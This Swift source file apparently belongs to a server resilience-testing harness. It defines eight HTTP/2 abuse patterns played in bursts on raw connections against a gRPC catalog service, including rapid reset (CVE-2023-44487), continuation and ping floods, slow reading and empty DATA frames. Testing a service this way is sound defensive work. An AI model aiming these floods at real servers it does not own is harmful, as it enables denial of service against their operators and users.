/// One kind of abuse, played over and over on raw connections by an ``Attacker``.
enum Attack: String, CaseIterable, Sendable {
    /// HEADERS and the request of a GetItem call, then RST_STREAM CANCEL, 100 calls a burst
    /// (CVE-2023-44487).
    case rapidReset = "rapid-reset"
    /// PING frames, 100 a burst.
    case pingFlood = "ping-flood"
    /// Empty SETTINGS frames, 100 a burst.
    case settingsFlood = "settings-flood"
    /// HEADERS without END_HEADERS, then CONTINUATION frames, 100 a burst, never ending.
    case continuationFlood = "continuation-flood"
    /// GetItem calls each carrying a 64 KiB header value (answered trailers-only), 8 a burst.
    case oversizedHeaders = "oversized-headers"
    /// 100 Categories/List calls whose answers are never read (no WINDOW_UPDATE either), the
    /// connection held 2 s, then dropped.
    case slowReader = "slow-reader"
    /// Connect, send the preface and SETTINGS, close.
    case connectionChurn = "connection-churn"
    /// A GetItem call's HEADERS, then empty DATA frames on its stream, 1 000 a burst
    /// (CVE-2019-9518).
    case emptyFrames = "empty-frames"

    /// Frames (or calls) sent at once.
    static let burst = 100
    /// How long a slow reader holds each connection, in milliseconds.
    static let slowReaderHold: Int32 = 2_000

    /// Plays the attack on `socket` until the server closes it, it stalls, or `deadline`.
    func play(on socket: RawSocket, until deadline: ContinuousClock.Instant) {
        guard socket.send(Frames.connectionStart) else { return }
        switch self {
        case .rapidReset:
            var stream: UInt32 = 1
            repeatBursts(on: socket, until: deadline) {
                (0..<Self.burst).flatMap { _ in
                    defer { stream += 2 }
                    return Frames.call(stream: stream, block: Self.getItemBlock, json: #"{"id":1}"#)
                        + Frames.cancel(stream: stream)
                }
            }
        case .pingFlood:
            repeatBursts(on: socket, until: deadline) {
                Array((0..<Self.burst).map { _ in Frames.frame(Frames.ping, [UInt8](repeating: 7, count: 8)) }.joined())
            }
        case .settingsFlood:
            repeatBursts(on: socket, until: deadline) {
                Array(repeatElement(Frames.frame(Frames.settings), count: Self.burst).joined())
            }
        case .continuationFlood:
            guard socket.send(Frames.frame(Frames.headers, stream: 1, Self.getItemBlock)) else { return }
            let fragment = Frames.frame(Frames.continuation, stream: 1, Frames.hpackLiteral([("x-pad", "0123456789")]))
            repeatBursts(on: socket, until: deadline) { Array(repeatElement(fragment, count: Self.burst).joined()) }
        case .oversizedHeaders:
            var stream: UInt32 = 1
            let block = Frames.requestBlock(
                path: "/catalog.v1.Catalog/GetItem", extra: [("x-big", String(repeating: "b", count: 64 * 1024))])
            repeatBursts(on: socket, until: deadline) {
                (0..<8).flatMap { _ in
                    defer { stream += 2 }
                    return Frames.call(stream: stream, block: block, json: #"{"id":1}"#)
                }
            }
        case .slowReader:
            let block = Frames.requestBlock(path: "/catalog.v1.Categories/List")
            let calls = (0..<UInt32(Self.burst)).flatMap { Frames.call(stream: 2 * $0 + 1, block: block, json: "{}") }
            guard socket.send(calls) else { return }
            let hold = min(Self.slowReaderHold, Int32(ContinuousClock.now.duration(to: deadline) / .milliseconds(1)))
            socket.waitForHangUp(milliseconds: max(hold, 0))
        case .connectionChurn:
            return
        case .emptyFrames:
            guard socket.send(Frames.frame(Frames.headers, flags: Frames.endHeaders, stream: 1, Self.getItemBlock)) else { return }
            let burst = Array(repeatElement(Frames.frame(Frames.data, stream: 1), count: 10 * Self.burst).joined())
            repeatBursts(on: socket, until: deadline) { burst }
        }
    }

    private static let getItemBlock = Frames.requestBlock(path: "/catalog.v1.Catalog/GetItem")

    /// Sends a burst, reads what came back (PING and SETTINGS acknowledgements, answers,
    /// GOAWAY), and again, while the connection stays open.
    private func repeatBursts(on socket: RawSocket, until deadline: ContinuousClock.Instant, _ burst: () -> [UInt8]) {
        while ContinuousClock.now < deadline && socket.send(burst()) && socket.drain() {}
    }
}
